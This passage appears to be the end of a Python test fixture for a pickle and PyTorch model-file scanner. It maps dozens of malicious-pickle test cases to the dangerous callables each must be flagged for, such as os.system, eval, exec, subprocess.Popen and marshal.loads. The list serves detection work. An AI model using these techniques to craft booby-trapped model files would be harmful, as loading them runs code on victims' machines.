        torch_storage_load_from_bytes,
        torch_jit_load_then_save,
        shutil_rmtree_referenced_only,
        webbrowser_open,
        socket_unix_bind,
        ctypes_cdll_libc_system,
        sys_modules_getitem_os,
        operator_attrgetter_chain,
        memo_stack_global_confusion,
        memo_index_overwritten,
        build_sets_module_attribute,
        build_hijacks_allowlisted_rebuild_tensor,
        copyreg_add_extension_then_ext,
        ext1_copyreg_os_system,
        ext2_copyreg_builtins_exec,
        ext4_copyreg_subprocess_check_call,
        torch_zip_data_pkl_replaced,
        torch_zip_persistent_id_storage_type_os_system,
        legacy_magic_number_pickle_replaced,
        legacy_sys_info_pickle_replaced,
        legacy_main_pickle_malicious,
        realistic_state_deep_payload,
    )
]

_POSIX_SYSTEM = ("posix:system",)
_FUNCTION_OR_CODE = ("types:FunctionType", "types:CodeType")

#: The dangerous names each file references, which the reader must report (a tuple: any one of them).
EXPECTED_GLOBALS: dict[str, tuple[str | tuple[str, ...], ...]] = {
    "os_system_opcodes": ("os:system",),
    "os_system_reduce_torch_save": _POSIX_SYSTEM,
    **{f"os_system_reduce_protocol_{p}": _POSIX_SYSTEM for p in (0, 1, 2, 4, 5)},
    "posix_system_stack_global_framed": _POSIX_SYSTEM,
    "headerless_pickle_starting_with_empty_tuple": ("os:system",),
    "protocol0_trailing_garbage_after_stop": ("os:system",),
    "dotted_qualname_module_alias_os_system": (("torch._utils:os.system", "os:system"),),
    "nt_system_referenced_only": ("nt:system",),
    "inst_os_system_protocol0": ("os:system",),
    "eval_reduce": (("builtins:eval", "__builtin__:eval"),),  # pickle writes builtins as __builtin__ below protocol 3
    "exec_reduce": (("builtins:exec", "__builtin__:exec"),),
    "compile_then_exec_opcodes": ("builtins:compile", "builtins:exec"),
    "builtins_import_os_system_chained_reduce": ("builtins:__import__", "builtins:getattr"),
    "getattr_builtins_eval_chain": ("builtins:getattr",),
    "py2_builtin_module_alias_eval": (("builtins:eval", "__builtin__:eval"),),
    "builtins_open_write_opcodes": ("builtins:open",),
    "io_open_write_reduce": ("io:open",),
    "getattr_pathlib_touch": ("builtins:getattr",),
    "setattr_module_hijack": ("builtins:setattr", "posix:system"),
    # below protocol 3 pickle writes subprocess names under the Python 2 module name "commands"
    "subprocess_popen_reduce": (("subprocess:Popen", "commands:Popen"),),
    "subprocess_check_output_reduce": (("subprocess:check_output", "commands:check_output"),),
    "py2_commands_module_alias_getoutput": (("subprocess:getoutput", "commands:getoutput"),),
    "copyreg_add_extension_then_ext": ("copyreg:add_extension",),
    "subprocess_call_reduce": ("subprocess:call",),
    "inst_subprocess_popen_protocol0": ("subprocess:Popen",),
    "obj_subprocess_popen_protocol1": ("subprocess:Popen",),
    "newobj_subprocess_popen_then_init": ("subprocess:Popen",),
    "newobj_ex_subprocess_popen_then_init": ("subprocess:Popen",),
    "importlib_import_module_methodcaller": ("importlib:import_module",),
    "pkgutil_resolve_name": ("pkgutil:resolve_name",),
    "runpy_run_path": ("runpy:run_path",),
    "runpy_run_module": ("runpy:run_module", "sys:path"),
    "numpy_runstring": ("numpy.testing._private.utils:runstring",),
    "pickle_loads_nested_pickle": ("pickle:loads",),
    "underscore_pickle_loads_nested_pickle": ("_pickle:loads",),
    "marshal_loads_code_functiontype": ("marshal:loads",),
    "types_codetype_functiontype": (_FUNCTION_OR_CODE,),
    "torch_load_nested_file": ("torch:load",),
    "torch_serialization_load_alias": ("torch.serialization:load",),
    "torch_storage_load_from_bytes": ("torch.storage:_load_from_bytes",),
    "torch_jit_load_then_save": ("torch.jit:load", "torch.jit:save"),
    "shutil_rmtree_referenced_only": ("shutil:rmtree",),
    "webbrowser_open": ("webbrowser:open",),
    "socket_unix_bind": ("socket:socket",),
    "ctypes_cdll_libc_system": ("ctypes:CDLL",),
    "sys_modules_getitem_os": ("sys:modules",),
    "operator_attrgetter_chain": ("operator:attrgetter",),
    "memo_stack_global_confusion": ("os:system",),
    "memo_index_overwritten": ("os:system",),
    "build_sets_module_attribute": ("os:system",),
    "build_hijacks_allowlisted_rebuild_tensor": ("builtins:exec",),
    "torch_zip_data_pkl_replaced": _POSIX_SYSTEM,
    "torch_zip_persistent_id_storage_type_os_system": _POSIX_SYSTEM,
    "legacy_magic_number_pickle_replaced": _POSIX_SYSTEM,
    "legacy_sys_info_pickle_replaced": _POSIX_SYSTEM,
    "legacy_main_pickle_malicious": _POSIX_SYSTEM,
    "realistic_state_deep_payload": _POSIX_SYSTEM,
}

#: Entries that only name something (no call): nothing would run, but the file is still refused.
REFERENCE_ONLY = frozenset({"nt_system_referenced_only", "shutil_rmtree_referenced_only",
                            "torch_zip_persistent_id_storage_type_os_system"})

#: Entries whose payload really creates the sentinel under ``torch.load(weights_only=False)`` in a
#: child process with ``BROWSER=touch`` and ``registered_extensions()``: every entry not in REFERENCE_ONLY.
LIVE_CHECKED = tuple(name for name, _ in CORPUS if name not in REFERENCE_ONLY)

assert len({name for name, _ in CORPUS}) == len(CORPUS)
assert set(EXPECTED_GLOBALS) <= {name for name, _ in CORPUS}
